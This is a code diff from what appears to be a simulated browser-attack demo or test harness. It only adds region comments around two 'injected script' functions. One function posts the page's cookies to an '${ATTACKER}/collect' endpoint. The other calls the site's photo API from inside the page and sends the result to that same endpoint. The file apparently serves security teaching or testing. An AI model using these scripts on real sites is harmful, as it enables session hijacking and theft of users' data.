@@ -30,13 +30,17 @@ async function tryCookie(globals: ServerGlobals, cookie: string): Promise<string
 
 /** The injected script: sends away what cookies it can read. */
 export async function stealCookie({ document, fetch }: TabGlobals): Promise<void> {
+  // #region injected-script
   await fetch(`${ATTACKER}/collect`, { method: 'POST', body: new URLSearchParams({ cookie: document.cookie }) })
+  // #endregion
 }
 
 /** The injected script: asks the backend from inside the page and sends the answer away. */
 export async function rideSession({ fetch }: TabGlobals): Promise<void> {
+  // #region injected-script
   const data = await (await fetch('/api/photos', { headers: { 'x-csrf': '1' } })).text()
   await fetch(`${ATTACKER}/collect`, { method: 'POST', body: new URLSearchParams({ data }) })
+  // #endregion
 }
 
 function baitPage(): string {
